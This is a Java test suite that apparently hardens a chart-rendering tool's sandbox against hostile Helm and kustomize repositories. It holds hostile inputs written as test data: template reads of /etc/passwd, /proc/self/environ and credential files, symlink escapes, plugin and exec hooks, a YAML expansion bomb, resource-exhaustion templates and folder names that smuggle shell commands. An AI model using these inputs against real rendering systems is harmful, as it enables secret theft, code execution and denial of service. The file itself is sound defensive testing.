package io.imagegate.cli.command;

import static org.assertj.core.api.Assertions.assertThat;

import io.imagegate.Machine;
import io.imagegate.cli.Program;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.api.parallel.Isolated;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/**
 * Hostile repositories, and what {@code check --render} makes of each. It looks at the processes of the machine and the folder for
 * temporary files, so nothing else may render meanwhile.
 */
@Tag("full")
@Isolated
class RenderAttacksTest {

    private static final String SECRET = "s3cr3t";

    /** A variable with a file of the copy, an address where nothing listens, or a number. */
    private static final Pattern OWN_VARIABLE = Pattern.compile(
            "HTTPS?_PROXY=http://127\\.0\\.0\\.1:9|GOMEMLIMIT=[0-9]+"
                    + "|(HOME|PATH|TMPDIR|XDG_\\w+|DOCKER_CONFIG|HELM_\\w+|KUSTOMIZE_PLUGIN_HOME|KUBECONFIG)=/[^/]+/empty(/kubeconfig)?");

    private static final long MOST_SECONDS = 30;

    /** What lies beside the repository. */
    @TempDir
    Path home = Path.of("");

    private Path repository = Path.of("");
    private Map<String, String> environment = Map.of();
    private final AtomicInteger connections = new AtomicInteger();
    private ServerSocket server = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());

    RenderAttacksTest() throws IOException {}

    /** What a repository tries, and what it gets. */
    enum Attack {
        LINKED_TEMPLATE(2, "templates/secret.txt is not copied: it is a link out") {
            @Override
            void lay(Hostile in) throws IOException {
                in.chart("acme/a:1");
                in.link("templates/secret.txt", "../../outside/credentials");
            }
        },
        LINKED_FILE(2, "files/secret is not copied: it is a link out") {
            @Override
            void lay(Hostile in) throws IOException {
                in.chart("acme/{{ .Files.Get \"files/secret\" | trim }}:1");
                in.link("files/secret", in.outside.resolve("credentials").toString());
            }
        },
        LINKED_FOLDER(2, "charts is not copied: it is a link out") {
            @Override
            void lay(Hostile in) throws IOException {
                in.chart("acme/a:1");
                in.link("charts", "../outside");
            }
        },
        FILES_GET(0, "6 images checked, 0 denied") {
            @Override
            void lay(Hostile in) throws IOException {
                int chart = 0;
                for (String name : List.of(
                        in.outside.resolve("credentials").toString(),
                        "../outside/credentials",
                        "/etc/passwd",
                        "../../../../../../../../etc/passwd",
                        "/proc/self/environ",
                        ".git/config")) {
                    in.file(".git/config", SECRET + "\n");
                    String folder = "c" + chart++;
                    in.file(folder + "/.git/config", SECRET + "\n");
                    in.chartIn(folder + "/", "acme/x{{ .Files.Get \"" + name + "\" | b64enc | lower | trunc 9 }}:1");
                }
            }
        },
        REMOTE_BASE(2, "not judged: kustomize:") {
            @Override
            void lay(Hostile in) throws IOException {
                in.file("kustomization.yaml", "resources: [\"http://127.0.0.1:" + in.port + "/base.yaml\"]\n");
            }
        },
        GIT_BASE(2, "not judged: kustomize:") {
            @Override
            void lay(Hostile in) throws IOException {
                in.file(
                        "kustomization.yaml",
                        "resources: [\"git::http://127.0.0.1:" + in.port + "/a/b.git?ref=main\"]\n");
            }
        },
        BASE_OUTSIDE(2, "not judged: kustomize:") {
            @Override
            void lay(Hostile in) throws IOException {
                in.file("kustomization.yaml", "resources: [../outside]\n");
                in.file("generated/kustomization.yaml", "configMapGenerator: [{name: a, files: [/etc/passwd]}]\n");
            }
        },
        EXEC_FUNCTION(2, "not judged: kustomize:") {
            @Override
            void lay(Hostile in) throws IOException {
                in.function("exec: {path: ./evil.sh}");
            }
        },
        CONTAINER_FUNCTION(2, "not judged: kustomize:") {
            @Override
            void lay(Hostile in) throws IOException {
                in.function("container: {image: evil/function:1, network: true}");
            }
        },
        ALPHA_PLUGIN(2, "not judged: kustomize:") {
            @Override
            void lay(Hostile in) throws IOException {
                in.file("kustomization.yaml", "generators: [plugin.yaml]\n");
                in.file("plugin.yaml", "apiVersion: acme.io/v1\nkind: Evil\nmetadata: {name: evil}\n");
                in.script("kustomize/plugin/acme.io/v1/evil/Evil");
            }
        },
        HELM_IN_KUSTOMIZATION(2, "not judged: kustomize:") {
            @Override
            void lay(Hostile in) throws IOException {
                in.chartIn("charts/c/", "acme/a:1");
                in.file(
                        "kustomization.yaml",
                        "helmCharts: [{name: c, releaseName: c}]\nhelmGlobals: {chartHome: charts}\n");
            }
        },
        LOOKUP(0, "depends on where it is rendered: lookup") {
            @Override
            void lay(Hostile in) throws IOException {
                in.chart("acme/a:{{ (lookup \"v1\" \"Secret\" \"default\" \"x\").data | default \"1\" }}");
            }
        },
        DNS(0, "depends on where it is rendered: getHostByName") {
            @Override
            void lay(Hostile in) throws IOException {
                in.chart("acme/a{{ getHostByName \"s3cr3t.example.com\" }}:1");
            }
        },
        DOWNLOADER(2, "missing in charts/ directory: evil") {
            @Override
            void lay(Hostile in) throws IOException {
                in.chart("acme/a:1");
                in.append(
                        "Chart.yaml",
                        "dependencies: [{name: evil, version: 1.0.0, repository: \"evil://127.0.0.1:" + in.port
                                + "\"}]\n");
                in.file(
                        "plugins/evil/plugin.yaml",
                        "name: evil\nversion: 1.0.0\ndownloaders: [{command: evil.sh, protocols: [evil]}]\n");
                in.script("plugins/evil/evil.sh");
            }
        },
        SCHEMA(0, "1 image checked, 0 denied") {
            @Override
            void lay(Hostile in) throws IOException {
                in.chart("acme/a:1");
                in.file(
                        "values.schema.json",
                        "{\"$ref\": \"http://127.0.0.1:" + in.port + "/s.json\", \"allOf\": [{\"$ref\": \"file://"
                                + in.outside.resolve("credentials") + "\"}]}");
            }
        },
        VALUE_BOMB(2, "not judged:") {
            @Override
            void lay(Hostile in) throws IOException {
                in.chart("acme/a:{{ .Values | toYaml | sha256sum }}");
                StringBuilder bomb = new StringBuilder("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
                for (int i = 1; i < 12; i++) {
                    bomb.append("a" + i + ": &a" + i + " [")
                            .append(("*a" + (i - 1) + ", ").repeat(9))
                            .append("]\n");
                }
                in.file("values.yaml", bomb.toString());
            }
        },
        ENDLESS_LOOP(2, "not judged:") {
            @Override
            void lay(Hostile in) throws IOException {
                in.chart("acme/a:1 {{ range $i := until 100000 }}{{ range $j := until 100000 }}{{ end }}{{ end }}");
            }
        },
        LONG_RANGE(2, "not judged:") {
            @Override
            void lay(Hostile in) throws IOException {
                in.chart("acme/a:1 {{ range until 1000000000 }}{{ end }}");
            }
        },
        RECURSION(2, "not judged:") {
            @Override
            void lay(Hostile in) throws IOException {
                in.chart("{{ include \"evil\" . }}");
                in.file(
                        "templates/_evil.tpl",
                        "{{ define \"evil\" }}{{ include \"evil\" . }}{{ include \"evil\" . }}{{ end }}");
            }
        },
        GIGABYTES(2, "not judged:") {
            @Override
            void lay(Hostile in) throws IOException {
                in.chart("acme/a:1\n# {{ range until 2000 }}{{ repeat 100000 \"0123456789\" }}{{ end }}");
            }
        },
        OUTPUT(2, "more than 64 MiB of output") {
            @Override
            String limit() {
                return "25s";
            }

            @Override
            void lay(Hostile in) throws IOException {
                in.chart("acme/a:1\n    # {{ range until 7 }}{{ repeat 1000000 \"0123456789\" }}{{ end }}");
            }
        },
        MEMORY(2, "out of memory") {
            @Override
            void lay(Hostile in) throws IOException {
                in.chart("acme/a:1 {{ $x := repeat 1000000000 \"0123456789\" }}");
            }
        },
        MANY_FILES(2, "more than 50000 files") {
            @Override
            void lay(Hostile in) throws IOException {
                in.chart("acme/a:1");
                for (int i = 0; i < 100_000; i++) {
                    in.empty("files/" + (i % 100) + "/f" + i);
                }
            }
        },
        HUGE_FILE(2, "1024 MiB, which are copied") {
            @Override
            void lay(Hostile in) throws IOException {
                in.chart("acme/a:1");
                in.file("huge", "");
                try (RandomAccessFile file =
                        new RandomAccessFile(in.repository.resolve("huge").toFile(), "rw")) {
                    file.setLength(4L << 30);
                }
            }
        },
        FORK(2, "not judged: ") {
            @Override
            void lay(Hostile in) throws IOException {
                in.chart("acme/{{ exec \"./evil.sh\" }}:1");
                in.script("evil.sh");
                in.script("helm");
                in.script("kubectl");
            }
        },
        PIPE(2, "templates/pipe.yaml is not copied: it is no regular file") {
            @Override
            void lay(Hostile in) throws IOException, InterruptedException {
                in.chart("acme/a:1");
                in.special("mkfifo", "templates/pipe.yaml");
            }
        },
        DEVICE(2, "is not copied: it is no regular file") {
            @Override
            void lay(Hostile in) throws IOException, InterruptedException {
                in.chart("acme/a:1");
                in.special("mkfifo", "files/pipe");
                in.link("templates/zero.yaml", "/dev/zero");
            }
        },
        NAMES(0, "4 images checked, 0 denied") {
            @Override
            void lay(Hostile in) throws IOException {
                for (String name : List.of("--post-renderer=x", "-f", "a\nb", "$(touch ran); `touch ran`")) {
                    in.chartIn(name + "/", "acme/a:1");
                }
            }
        },
        ENVIRONMENT(2, "function \"env\" not defined") {
            @Override
            void lay(Hostile in) throws IOException {
                in.chart("acme/{{ env \"SECRET\" }}:1");
                in.file("k/kustomization.yaml", "configMapGenerator: [{name: a, envs: [e]}]\nresources: [p.yaml]\n");
                in.file("k/e", "SECRET\n");
                in.file(
                        "k/p.yaml",
                        "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {containers: [{name: a, image: \"acme/$(SECRET):1\"}]}\n");
            }
        },
        WRITING(0, "1 image checked, 0 denied") {
            @Override
            void lay(Hostile in) throws IOException {
                in.chart("acme/a:1\n---\n# Source: ../../../outside/written.yaml\n");
                in.file("templates/NOTES.txt", "{{ .Files.Glob \"**\" }}");
            }
        };

        private final int status;
        private final String told;

        Attack(int status, String told) {
            this.status = status;
            this.told = told;
        }

        String limit() {
            return "4s";
        }

        abstract void lay(Hostile in) throws IOException, InterruptedException;
    }

    /** Lays out a repository. */
    private record Hostile(Path repository, Path outside, int port) {

        void file(String name, String content) throws IOException {
            Path file = repository.resolve(name);
            Files.createDirectories(file.resolveSibling(""));
            Files.writeString(file, content);
        }

        void append(String name, String content) throws IOException {
            file(name, Files.readString(repository.resolve(name)) + content);
        }

        void empty(String name) throws IOException {
            Path file = repository.resolve(name);
            Files.createDirectories(file.resolveSibling(""));
            Files.createFile(file);
        }

        void link(String name, String target) throws IOException {
            Path link = repository.resolve(name);
            Files.createDirectories(link.resolveSibling(""));
            Files.createSymbolicLink(link, Path.of(target));
        }

        void special(String program, String name) throws IOException, InterruptedException {
            Path file = repository.resolve(name);
            Files.createDirectories(file.resolveSibling(""));
            Machine.needs(program);
            assertThat(Program.run(List.of(program, file.toString())).status()).isZero();
        }

        void chart(String image) throws IOException {
            chartIn("", image);
        }

        void chartIn(String folder, String image) throws IOException {
            file(folder + "Chart.yaml", "apiVersion: v2\nname: evil\nversion: 1.0.0\n");
            file(
                    folder + "templates/pod.yaml",
                    "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec:\n  containers:\n  - name: a\n    image: "
                            + image + "\n");
        }

        void script(String name) throws IOException {
            file(name, "#!/bin/sh\ntouch " + outside.resolve("ran") + "\n" + "sleep 100 & sleep 100 &\n");
            assertThat(repository.resolve(name).toFile().setExecutable(true)).isTrue();
        }

        void function(String what) throws IOException {
            script("evil.sh");
            file("kustomization.yaml", "transformers: [function.yaml]\nresources: [pod.yaml]\n");
            file(
                    "pod.yaml",
                    "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {containers: [{name: a, image: \"a:1\"}]}\n");
            file(
                    "function.yaml",
                    "apiVersion: acme.io/v1\nkind: Evil\nmetadata:\n  name: evil\n  annotations:\n    config.kubernetes.io/function: |\n      "
                            + what + "\n");
        }
    }

    @BeforeEach
    void lay() throws Exception {
        environment = RenderTools.environment();
        repository = Files.createDirectories(home.resolve("repository"));
        Path outside = Files.createDirectories(home.resolve("outside"));
        Files.writeString(outside.resolve("credentials"), SECRET + "\n");
        Files.writeString(outside.resolve("kustomization.yaml"), "resources: [pod.yaml]\n");
        Files.writeString(
                outside.resolve("pod.yaml"),
                "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {containers: [{name: a, image: \"" + SECRET
                        + ":1\"}]}\n");
        Thread accepting = new Thread(() -> {
            while (!server.isClosed()) {
                try {
                    server.accept().close();
                    connections.incrementAndGet();
                } catch (IOException closed) {
                    return;
                }
            }
        });
        accepting.setDaemon(true);
        accepting.start();
    }

    @AfterEach
    void close() throws IOException {
        server.close();
    }

    private Program.Result check(Attack attack) {
        return ImagegateHere.run(
                environment,
                "check",
                "-p",
                "builtin:fixed-tags",
                "--render",
                "--render-timeout",
                attack.limit(),
                repository.toString());
    }

    @ParameterizedTest
    @EnumSource
    @DisplayName("a hostile repository gets no secret, no network, no process and no time")
    void attack(Attack attack) throws Exception {
        Path outside = home.resolve("outside");
        attack.lay(new Hostile(repository, outside, server.getLocalPort()));
        Map<String, String> before = outsideFiles(outside);
        long start = System.nanoTime();
        Program.Result result = check(attack);
        long millis = (System.nanoTime() - start) / 1_000_000;
        String all = result.out() + result.err();
        System.out.printf(
                "%-22s exit %d %6d ms  %s%n",
                attack,
                result.status(),
                millis,
                result.err()
                        .lines()
                        .findFirst()
                        .orElse(result.out().lines().findFirst().orElse("")));
        assertThat(result.status()).as(all).isEqualTo(attack.status);
        assertThat(all).contains(attack.told).doesNotContain(SECRET, "czNjcjN0", "root:", "cm9vdDp4", "a\nb/");
        assertThat(millis).isLessThan(TimeUnit.SECONDS.toMillis(MOST_SECONDS));
        assertThat(outsideFiles(outside)).isEqualTo(before);
        assertThat(repository.resolve("ran")).doesNotExist();
        assertThat(Path.of("ran")).doesNotExist();
        assertThat(connections).hasValue(0);
        assertGone();
    }

    private static Map<String, String> outsideFiles(Path outside) throws IOException {
        Map<String, String> files = new TreeMap<>();
        try (Stream<Path> all = Files.list(outside)) {
            for (Path file : all.toList()) {
                files.put(file.toString(), Files.readString(file));
            }
        }
        return files;
    }

    private static void assertGone() throws IOException, InterruptedException {
        long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(5);
        while (rendering().findAny().isPresent() && System.nanoTime() < end) {
            Thread.sleep(20);
        }
        assertThat(rendering()).isEmpty();
        try (Stream<Path> files = Files.list(Path.of(System.getProperty("java.io.tmpdir")))) {
            assertThat(files.filter(file -> String.valueOf(file.getFileName()).startsWith("imagegate-render")))
                    .isEmpty();
        }
    }

    /** The processes that run a program of the copy, as the machine sees them. */
    private static Stream<ProcessHandle> rendering() {
        return ProcessHandle.allProcesses()
                .filter(process -> process.info()
                        .command()
                        .filter(command -> command.contains("imagegate-render"))
                        .isPresent());
    }

    @Test
    @DisplayName(
            "the program's network has no interface that is up, its root is the copy, and no variable is that of this process")
    void confined() throws Exception {
        Attack.ENDLESS_LOOP.lay(new Hostile(repository, home.resolve("outside"), server.getLocalPort()));
        CompletableFuture<Program.Result> result = CompletableFuture.supplyAsync(() -> check(Attack.ENDLESS_LOOP));
        long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(20);
        boolean isSeen = false;
        while (!isSeen && System.nanoTime() < end) {
            for (ProcessHandle process : rendering().toList()) {
                Path proc = Path.of("/proc/" + process.pid());
                try {
                    List<String> interfaces = Files.readAllLines(proc.resolve("net/dev"));
                    List<String> addresses = Files.readAllLines(proc.resolve("net/if_inet6"));
                    List<String> routes = Files.readAllLines(proc.resolve("net/fib_trie"));
                    String root = Files.readSymbolicLink(proc.resolve("root")).toString();
                    String status = Files.readString(proc.resolve("status"));
                    String variables = Files.readString(proc.resolve("environ"));
                    assertThat(interfaces)
                            .hasSize(3)
                            .last()
                            .asString()
                            .contains("lo:")
                            .matches("[^:]*:[ 0]*");
                    assertThat(addresses)
                            .as("addresses of loopback, if it were up")
                            .isEmpty();
                    assertThat(routes).noneMatch(line -> line.contains("127.0.0.1"));
                    assertThat(root).contains("imagegate-render").endsWith("root");
                    assertThat(status).contains("CapEff:\t0000000000000000");
                    assertThat(variables.split("\0"))
                            .allMatch(variable -> OWN_VARIABLE.matcher(variable).matches());
                    isSeen = true;
                } catch (IOException ended) {
                    // It has just started, or ended.
                }
            }
        }
        assertThat(isSeen).isTrue();
        assertThat(result.get(60, TimeUnit.SECONDS).status()).isEqualTo(2);
        assertGone();
    }
}
